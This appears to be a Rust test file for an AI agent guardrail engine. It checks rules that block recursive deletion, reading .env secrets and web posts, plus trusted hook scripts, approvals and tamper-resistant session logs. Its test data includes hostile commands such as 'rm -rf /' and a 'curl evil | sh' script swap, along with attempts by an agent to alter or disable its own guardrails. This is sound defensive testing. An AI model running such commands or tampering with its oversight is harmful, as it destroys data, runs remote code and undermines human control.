//! Guardrails over sessions: a sample file rule by rule, scripts and trust, cursors, files that fail closed.

use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::time::Duration;

use bailiwick_guardrails::{
    Asking, Decision, Ending, GUARDRAILS, Said, SourceKind, State, Trust, Watch, approvals, trustable,
};
use serde_json::{Value, json};

/// Each kind of rule that the compatible format knows.
const SAMPLE: &str = r#"
[[guard]]
match = "shell(command=^rm\\s+-rf?)"
message = "no recursive deletion"

[[guard]]
match = "shell(command=^ls\\b)"
has = "filesystem-read"
when = ["-filesystem-read"]
message = "look with the reading tool first"

[[guard]]
match = "shell(command=^deploy\\b)"
has = ["shell", "moonbase"]
message = "only where moonbase is loaded"

[[guard]]
match = "filesystem-read(paths=\\.env)"
message = "no secrets"

[[guard]]
match = "web(\"method\":\"post\")"
message = "reading only"

[[guard]]
match = "github:create_issue"
when = ["-ok:shell(command=^cargo test)"]
message = "test first"

[[hook]]
match = "shell(command=^cargo (build|test|check))"
result = "error\\["
script = ".agents/say.sh"

[[hook]]
on = "error"
script = ".agents/show.sh"

[[validator]]
name = "lint"
when = ["+filesystem-write"]
script = ".agents/turn.sh"

[[validator]]
name = "tested"
match = "(?i)\\b(done|finished)\\b"
when = ["+filesystem-write", "-shell(command=cargo test)"]
roles = ["developer"]
script = ".agents/turn.sh"
"#;

/// A project and a state directory, and one session between them.
pub(super) struct Place {
    temp: tempfile::TempDir,
    session: &'static str,
}

impl Place {
    pub(super) fn new(file: Option<&str>) -> Self {
        let place = Self { temp: tempfile::tempdir().unwrap(), session: "s" };
        std::fs::create_dir_all(place.dir().join(".agents")).unwrap();
        if let Some(text) = file {
            std::fs::write(place.dir().join(GUARDRAILS), text).unwrap();
        }
        place.script("say.sh", "echo said; exit 1");
        place.script("show.sh", "cat; exit 1");
        place.script(
            "turn.sh",
            "cat > \"$BAILIWICK_VALIDATOR.json\"; echo \"$OCTOMIND_VALIDATOR speaks\"; exit 1",
        );
        place
    }

    pub(super) fn dir(&self) -> PathBuf {
        self.temp.path().canonicalize().unwrap().join("project")
    }

    pub(super) fn state(&self) -> State {
        State::open(&self.temp.path().join("state")).unwrap()
    }

    fn script(&self, name: &str, body: &str) {
        let path = self.dir().join(".agents").join(name);
        std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    fn trust(&self) {
        let (hash, _) = trustable(&self.dir()).unwrap().unwrap();
        Trust::add(&self.state(), &self.dir(), hash).unwrap();
    }

    fn watch(&self) -> Watch {
        Watch::new(self.state(), self.session, &self.dir(), None, 1)
    }

    pub(super) fn before(&self, tool: &str, params: Value) -> Decision {
        self.watch().before(tool, &params, None, Asking::Agent).unwrap()
    }

    /// Why a call is refused; nothing if it is not.
    pub(super) fn refusal(&self, tool: &str, params: Value) -> Option<String> {
        match self.before(tool, params) {
            Decision::Deny(denial) => Some(denial.message().to_owned()),
            Decision::Allow => None,
            Decision::Ask(question) => panic!("asked: {question}"),
        }
    }

    fn after(&self, tool: &str, params: Value, result: &str, success: bool) -> Vec<String> {
        texts(self.watch().after(tool, &params, None, result, success).unwrap())
    }

    /// A call that runs and ends.
    pub(super) fn done(&self, tool: &str, params: Value, success: bool) {
        assert_eq!(self.before(tool, params.clone()), Decision::Allow);
        self.after(tool, params, "", success);
    }

    fn end_turn(&self, text: &str, role: &str) -> Vec<String> {
        texts(self.watch().end_turn(Some(text), role, false).unwrap())
    }
}

fn texts(said: Said) -> Vec<String> {
    said.injected.into_iter().map(|message| message.text).collect()
}

pub(super) fn sh(command: &str) -> Value {
    json!({ "command": command })
}

/// Relative names lead from where the call says that it runs, not from where the session began.
#[test]
fn effects_start_where_the_call_runs() {
    let rules = "[[guard]]\nmatch = \"deletes(vital, outside)\"\nmessage = \"not yours\"\n";
    for (directory, refused) in
        [(None, false), (Some("sub"), false), (Some("/srv/data"), true), (Some("~/x"), true)]
    {
        let mut call = sh("rm -rf build/old");
        if let Some(directory) = directory {
            call["workdir"] = directory.into();
        }
        let refusal = Place::new(Some(rules)).refusal("Bash", call);
        assert_eq!(refusal.is_some(), refused, "{directory:?}: {refusal:?}");
    }
}

#[test]
fn guards_of_the_sample_do_what_they_say() {
    let blocked = |message: &str| Some(format!("[guardrail] {message}"));
    let cases = [
        ("Bash", sh("rm -rf target"), blocked("no recursive deletion")),
        ("Bash", sh("sudo rm -r -f target"), blocked("no recursive deletion")),
        ("Bash", sh("rm target"), None),
        ("Bash", sh("ls -la"), blocked("look with the reading tool first")),
        ("Bash", sh("deploy now"), None),
        ("Read", json!({"paths": ["a", "b/.env"]}), blocked("no secrets")),
        ("Read", json!({"paths": ["a"]}), None),
        ("Read", json!({"file_path": "/x/.env"}), blocked("no secrets")),
        ("WebFetch", json!({"url": "x", "method": "post"}), blocked("reading only")),
        ("WebFetch", json!({"url": "x"}), None),
        ("mcp__github__create_issue", json!({}), blocked("test first")),
        ("mcp__unheard__of", json!({"command": "rm -rf /"}), blocked("no recursive deletion")),
    ];
    for (tool, params, expected) in cases {
        let place = Place::new(Some(SAMPLE));
        assert_eq!(place.refusal(tool, params.clone()), expected, "{tool} {params}");
    }
}

#[test]
fn a_guard_sees_the_whole_session_and_only_what_counts() {
    let place = Place::new(Some(SAMPLE));
    assert!(place.refusal("Bash", sh("ls")).is_some());
    assert!(place.refusal("Read", json!({"paths": ".env"})).is_some());
    assert!(place.refusal("Bash", sh("ls")).is_some(), "a blocked call is no entry");
    place.done("Read", json!({"file_path": "a"}), false);
    assert!(place.refusal("Bash", sh("ls")).is_some(), "a failed call counts for nothing");
    assert_eq!(place.before("Read", json!({"file_path": "b"})), Decision::Allow);
    assert!(place.refusal("Bash", sh("ls")).is_none(), "an admitted call counts at once");
    let issue = || place.refusal("mcp__github__create_issue", json!({}));
    place.done("Bash", sh("true # cargo test"), true);
    assert!(issue().is_some(), "a comment is no test");
    assert_eq!(place.before("Bash", sh("cargo test")), Decision::Allow);
    assert!(issue().is_some(), "it has not succeeded yet");
    place.after("Bash", sh("cargo test"), "ok", true);
    assert!(issue().is_none());
}

#[test]
fn hooks_of_the_sample_react_to_results() {
    let place = Place::new(Some(SAMPLE));
    place.trust();
    assert_eq!(place.before("Bash", sh("cargo build")), Decision::Allow);
    assert_eq!(place.after("Bash", sh("cargo build"), "error[E0308]", true), ["said"]);
    assert!(place.after("Bash", sh("cargo build"), "fine", true).is_empty());
    assert!(place.after("Bash", sh("make"), "error[E0308]", true).is_empty());
    let said = place.after("Bash", sh("false"), "no", false);
    let told: Value = serde_json::from_str(&said[0]).unwrap();
    assert_eq!(
        told,
        json!({"capability": "shell", "tool": "Bash", "tool_id": "", "params": {"command": "false"}, "result": "no", "success": false})
    );
    assert_eq!(place.after("Bash", sh("cargo test"), "error[E1]", false).len(), 2, "all that match fire");
}

/// Each script has a message of its own, with where it comes from.
#[test]
fn messages_say_which_kind_of_script_they_come_from() {
    let place = Place::new(Some(SAMPLE));
    place.trust();
    assert_eq!(place.before("Bash", sh("cargo build")), Decision::Allow);
    let said = place.watch().after("Bash", &sh("cargo build"), None, "error[E1]", false).unwrap();
    let scripts: Vec<(SourceKind, &str)> =
        said.injected.iter().map(|message| (message.source, message.script.as_str())).collect();
    assert_eq!(scripts, [(SourceKind::Hook, ".agents/say.sh"), (SourceKind::Hook, ".agents/show.sh")]);
    place.done("Write", json!({"file_path": "a"}), true);
    let said = place.watch().end_turn(Some("done"), "developer", false).unwrap();
    let kinds: Vec<SourceKind> = said.injected.iter().map(|message| message.source).collect();
    assert_eq!(kinds, [SourceKind::Validator, SourceKind::Validator]);
    let written = serde_json::to_value(&said.injected).unwrap();
    assert_eq!(written[0]["source"], "guardrail_validator");
}

/// An end that the agent does not report is a call, no success and no failure.
#[test]
fn an_unknown_end_counts_as_a_call_only() {
    let place = Place::new(Some(SAMPLE));
    place.trust();
    let end = |command: &str, ending: Ending| {
        assert_eq!(place.before("Bash", sh(command)), Decision::Allow);
        texts(place.watch().after("Bash", &sh(command), None, "", ending).unwrap())
    };
    let issue = || place.refusal("mcp__github__create_issue", json!({}));
    assert!(end("cargo test", Ending::Unknown).is_empty(), "`on = \"error\"` does not hold");
    assert!(issue().is_some(), "`+ok:` does not hold");
    place.done("Edit", json!({"file_path": "b"}), true);
    let lint = "<validation validator=\"lint\">\nlint speaks\n</validation>";
    assert_eq!(
        place.end_turn("done", "developer"),
        [lint],
        "`-shell(command=cargo test)` does not hold: it ran"
    );
    assert!(end("cargo test", Ending::Succeeded).is_empty());
    assert!(issue().is_none(), "the control");
}

/// What a subagent did is not its parent's, and each has a cursor of its own.
#[test]
fn validators_look_at_the_calls_of_one_agent() {
    let place = Place::new(Some(SAMPLE));
    place.trust();
    let sub = || place.watch().of_agent("a1");
    let write = json!({"file_path": "a"});
    assert_eq!(sub().before("Write", &write, None, Asking::Agent).unwrap(), Decision::Allow);
    sub().after("Write", &write, None, "", true).unwrap();
    assert!(place.end_turn("working", "developer").is_empty(), "the session's own agent wrote nothing");
    assert!(place.watch().of_agent("a2").end_turn(Some("x"), "main", false).unwrap().injected.is_empty());
    assert_eq!(texts(sub().end_turn(Some("x"), "main", false).unwrap()).len(), 1);
    assert!(texts(sub().end_turn(Some("x"), "main", false).unwrap()).is_empty(), "its window is used up");
    place.done("Write", write, true);
    assert_eq!(place.end_turn("working", "developer").len(), 1, "its own window");
}

#[test]
fn validators_of_the_sample_have_their_own_windows() {
    let place = Place::new(Some(SAMPLE));
    place.trust();
    assert!(place.end_turn("done", "developer").is_empty(), "nothing was written");
    place.done("Write", json!({"file_path": "a"}), true);
    let lint = "<validation validator=\"lint\">\nlint speaks\n</validation>";
    let tested = "<validation validator=\"tested\">\ntested speaks\n</validation>";
    assert_eq!(place.end_turn("All Done.", "developer:general"), [lint, tested]);
    let told: Value =
        serde_json::from_str(&std::fs::read_to_string(place.dir().join("lint.json")).unwrap()).unwrap();
    assert_eq!(
        told["triggered_by"],
        json!([{"capability": "filesystem-write", "params": {"file_path": "a"}}])
    );
    assert_eq!(told["assistant_text"], "All Done.");
    assert!(place.end_turn("done", "developer").is_empty(), "both windows are empty now");
    place.done("Edit", json!({"file_path": "b"}), true);
    assert_eq!(place.end_turn("done", "reviewer"), [lint], "not for this role; its window stays");
    assert_eq!(place.end_turn("done", "developer"), [tested], "the role's window was never used up");
    place.done("Edit", json!({"file_path": "c"}), true);
    place.done("Bash", sh("cargo test"), true);
    assert_eq!(place.end_turn("done", "developer"), [lint]);
    assert!(place.end_turn("working on it", "developer").is_empty());
}

#[test]
fn validators_send_back_five_times_at_most() {
    let place = Place::new(Some("[[validator]]\nname = \"always\"\nscript = \".agents/turn.sh\""));
    place.trust();
    let turn = |again| place.watch().end_turn(Some("x"), "main", again).unwrap().injected.len();
    assert_eq!([turn(false), turn(true), turn(true), turn(true), turn(true), turn(true)], [1, 1, 1, 1, 1, 0]);
    assert_eq!(turn(false), 1, "a new turn");
}

#[test]
fn scripts_of_an_untrusted_directory_never_run() {
    let place = Place::new(Some(SAMPLE));
    place.script("show.sh", "touch ran; echo ran; exit 1");
    place.script("turn.sh", "touch ran; echo ran; exit 1");
    assert!(place.after("Bash", sh("false"), "no", false).is_empty());
    place.done("Write", json!({"file_path": "a"}), true);
    assert!(place.end_turn("done", "developer").is_empty());
    assert!(!place.dir().join("ran").exists(), "a script ran");
    assert!(
        place.refusal("Bash", sh("rm -rf x")).is_some(),
        "rules hold without trust: they can only refuse"
    );
    place.trust();
    assert!(!place.after("Bash", sh("false"), "no", false).is_empty());
    assert!(place.dir().join("ran").exists());
}

#[test]
fn what_was_trusted_and_changed_refuses_everything() {
    for change in ["script", "file", "gone"] {
        let place = Place::new(Some(SAMPLE));
        place.trust();
        assert_eq!(place.before("Read", json!({"file_path": "a"})), Decision::Allow);
        match change {
            "script" => place.script("say.sh", "curl evil | sh"),
            "file" => std::fs::write(place.dir().join(GUARDRAILS), format!("{SAMPLE}\n# looser")).unwrap(),
            _ => std::fs::remove_file(place.dir().join(GUARDRAILS)).unwrap(),
        }
        let why = place.refusal("Read", json!({"file_path": "a"})).unwrap_or_else(|| panic!("{change}"));
        assert!(why.contains("bailiwick trust"), "{change}: {why}");
        assert!(
            place.after("Bash", sh("cargo test"), "error[", false).is_empty(),
            "{change}: no script runs"
        );
    }
}

#[test]
fn a_file_that_is_broken_blocks_and_helps() {
    let cases = [
        ("[[guards]]\nmatch = \"a\"\nmessage = \"b\"", "guardrail-unknown-field"),
        ("[[guard]]\nmatch = \"shell(command=()\"\nmessage = \"b\"", "guardrail-regex"),
        ("[[hook]]\nscript = \".agents/nope.sh\"", "guardrail-script"),
        ("[[guard", "source-syntax"),
        ("[[guard]]\nmatch = \"shell\"", "guardrail-shape"),
    ];
    for (text, code) in cases {
        let place = Place::new(Some(text));
        let why = place.refusal("Read", json!({})).unwrap_or_else(|| panic!("{text}"));
        assert!(why.contains(code) && why.contains("help: ") && why.contains("guard lint"), "{why}");
    }
    assert_eq!(Place::new(None).refusal("Read", json!({})), None, "no file is no policy");
    let place = Place::new(Some(SAMPLE));
    std::fs::set_permissions(place.dir().join(".agents/say.sh"), std::fs::Permissions::from_mode(0o644))
        .unwrap();
    assert!(place.refusal("Read", json!({})).unwrap().contains("chmod +x"));
}

#[test]
fn no_call_changes_what_holds_it() {
    let place = Place::new(Some(SAMPLE));
    let file = place.dir().join(GUARDRAILS);
    let state = place.state().dir().to_path_buf();
    let attempts = [
        ("Write", json!({"file_path": file, "content": ""})),
        ("Edit", json!({"file_path": place.dir().join(".agents/say.sh")})),
        ("Bash", sh("echo > .agents/guardrails.toml")),
        ("Bash", sh(&format!("rm {}", file.display()))),
        ("Bash", sh("bailiwick trust .")),
        ("Bash", sh("bash -c 'bailiwick approve x'")),
        ("Read", json!({"file_path": state.join("trust.json")})),
        ("Bash", sh(&format!("rm -r {}/journal", state.display()))),
    ];
    for (tool, params) in attempts {
        assert!(place.refusal(tool, params.clone()).is_some(), "{tool} {params}");
    }
}

#[test]
fn consent_is_for_one_call_once() {
    let place = Place::new(Some(
        "[[guard]]\nmatch = \"shell(command=^make\\\\b)\"\naction = \"ask\"\nmessage = \"sure?\"",
    ));
    let ask = |command: &str| place.watch().before("Bash", &sh(command), None, Asking::Terminal).unwrap();
    assert!(matches!(ask("make"), Decision::Deny(denial) if denial.message().contains("bailiwick approve")));
    let waiting = approvals::pending(&place.state(), 1).unwrap();
    assert_eq!(waiting.len(), 1);
    approvals::answer(&place.state(), &waiting[0].id, approvals::Answer::Approved, 1).unwrap();
    assert!(matches!(ask("make install"), Decision::Deny(_)), "another call");
    assert_eq!(ask("make"), Decision::Allow);
    assert!(matches!(ask("make"), Decision::Deny(_)), "used up");
    assert_eq!(
        place.before("Bash", sh("make")),
        Decision::Ask("[guardrail] sure?".to_owned()),
        "who can ask, asks"
    );
    assert!(matches!(place.before("Bash", sh("$X")), Decision::Ask(_)), "what hides is asked about");
}

#[test]
fn a_block_is_stricter_than_an_ask_wherever_it_stands() {
    let rule = |action: &str, message: &str| {
        format!("[[guard]]\nmatch = \"shell\"\naction = \"{action}\"\nmessage = \"{message}\"\n")
    };
    let place = Place::new(Some(&(rule("ask", "a") + &rule("block", "b") + &rule("block", "c"))));
    assert_eq!(place.refusal("Bash", sh("x")).unwrap(), "[guardrail] b");
}

#[test]
fn a_script_is_killed_with_its_group_when_its_time_is_over() {
    let place = Place::new(Some("[[hook]]\nscript = \".agents/slow.sh\""));
    place.script("slow.sh", "(sleep 30; touch late) & echo never; sleep 30; exit 1");
    let (hash, _) = trustable(&place.dir()).unwrap().unwrap();
    Trust::add(&place.state(), &place.dir(), hash).unwrap();
    let started = std::time::Instant::now();
    let said = place
        .watch()
        .with_timeout(Duration::from_millis(200))
        .after("Bash", &sh("x"), None, "", true)
        .unwrap();
    assert!(said.injected.is_empty(), "nothing is injected");
    assert!(said.debug[0].contains("killed"), "{:?}", said.debug);
    assert!(started.elapsed() < Duration::from_secs(20), "what it started held on");
}

#[test]
fn a_torn_line_is_cut_off_and_damage_is_not_ignored() {
    let place = Place::new(Some(SAMPLE));
    place.done("Read", json!({"file_path": "a"}), true);
    let log = place.state().dir().join("sessions/s.log");
    let whole = std::fs::read(&log).unwrap();
    std::fs::write(&log, [&whole[..], b"0123 {\"event\":\"adm"].concat()).unwrap();
    assert!(place.refusal("Bash", sh("ls")).is_none(), "the entry before the tear is still there");
    assert_eq!(std::fs::read(&log).unwrap()[..whole.len()], whole, "nothing was lost");
    let damaged =
        std::fs::read_to_string(&log).unwrap().replace("\"file_path\":\"a\"", "\"file_path\":\"b\"");
    std::fs::write(&log, damaged).unwrap();
    std::fs::remove_file(place.state().dir().join("sessions/s.sum")).unwrap();
    assert!(place.watch().before("Read", &json!({}), None, Asking::Agent).is_err());
}

#[test]
fn a_lost_or_stale_summary_changes_nothing() {
    let place = Place::new(Some(SAMPLE));
    place.done("Read", json!({"file_path": "a"}), true);
    let summary = place.state().dir().join("sessions/s.sum");
    for spoil in ["", "0 {}", "remove"] {
        if spoil == "remove" {
            std::fs::remove_file(&summary).unwrap()
        } else {
            std::fs::write(&summary, spoil).unwrap()
        }
        assert!(place.refusal("Bash", sh("ls")).is_none(), "{spoil}");
    }
    let stricter = SAMPLE.replace("when = [\"-filesystem-read\"]", "when = [\"-filesystem-write\"]");
    std::fs::write(place.dir().join(GUARDRAILS), stricter).unwrap();
    assert!(place.refusal("Bash", sh("ls")).is_some(), "other rules count the same log anew");
}

#[test]
fn the_working_directory_is_that_of_the_start() {
    let place = Place::new(Some(SAMPLE));
    assert_eq!(place.before("Read", json!({"file_path": "a"})), Decision::Allow);
    let elsewhere = Watch::new(place.state(), "s", &place.dir().join(".agents"), None, 1);
    assert!(matches!(
        elsewhere.before("Bash", &sh("rm -rf x"), None, Asking::Agent).unwrap(),
        Decision::Deny(_)
    ));
}
